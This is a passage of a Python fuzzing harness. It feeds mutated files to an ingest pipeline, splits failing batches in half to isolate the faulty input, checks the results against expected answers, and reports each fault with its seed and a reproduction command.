def _run(batch: Sequence[Mutant], folder: Path, honest: dict[str, Answer], seed: int, report: Report) -> None:
    for mutant in batch:
        place = os.fsencode(folder / "in" / f"{mutant.number:06}")
        os.makedirs(place)  # noqa: PTH103 - names of bytes
        with open(os.path.join(place, mutant.file_name), "wb") as stream:  # noqa: PTH118, PTH123
            stream.write(mutant.data)

    def blame(mutant: Mutant, what: str) -> None:
        report.faults.append(
            f"--seed {seed} --only {mutant.number}: {mutant.original!r} {' + '.join(mutant.done)}"
            f" as {mutant.file_name!r}\n    {what}"
        )

    receipts, fault = ingest(folder / "live", folder / "in", len(batch))
    report.count += len(batch)
    if fault:
        if len(batch) == 1:
            blame(batch[0], fault)
            return
        report.count -= len(batch)
        for number, half in enumerate((batch[: len(batch) // 2], batch[len(batch) // 2 :])):
            _run(half, folder / str(number), honest, seed, report)
        return
    told = Counter(receipt["file"] for receipt in receipts)
    report.outcomes.update(receipt["outcome"] for receipt in receipts)
    report.codes.update({finding["code"] for receipt in receipts for finding in receipt["findings"]})
    archived = answers(folder / "live")
    sent: Counter[str] = Counter()
    for mutant in batch:
        file = hash_of(mutant.data)
        sent[file] += 1
        if told[file] < sent[file]:
            blame(mutant, "it got no receipt")
            continue
        wrong = list(faults_of(mutant, archived[file], honest[mutant.original]))
        if wrong:
            blame(mutant, "\n    ".join(what[:500] for what in wrong[:3]) + f"\n    ({len(wrong)} in all)")
    if told.keys() - sent.keys():
        report.faults.append(f"--seed {seed}: receipts for files that nobody sent")
    landing = Settings(live=folder / "live").landing
    if landing.is_dir() and any(landing.iterdir()):
        report.faults.append(f"--seed {seed}: something stays in the landing: {sorted(landing.iterdir())[:5]}")


def hash_of(data: bytes) -> str:
    return sha256(data).hexdigest()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--count", type=int, default=3000)
    parser.add_argument("--seed", type=int, default=random.randrange(10**6))
    parser.add_argument("--only", type=int, help="only this mutant of the seed")
    parser.add_argument("--keep", type=Path, help="work in this new folder and keep it")
    asked = parser.parse_args()
    folder = asked.keep or Path(tempfile.mkdtemp(prefix="fuzz-"))
    began = time.monotonic()
    report = fuzz(asked.seed, asked.count, folder, asked.only)
    print("\n".join(report.faults))
    print(f"seed {asked.seed}: {report.count} files, {dict(report.outcomes)}, {time.monotonic() - began:.0f} s")
    print(f"{len(report.codes)} kinds of findings; {len(report.faults)} fault(s)")
    if not asked.keep:
        shutil.rmtree(folder)
    sys.exit(bool(report.faults))


if __name__ == "__main__":
    main()
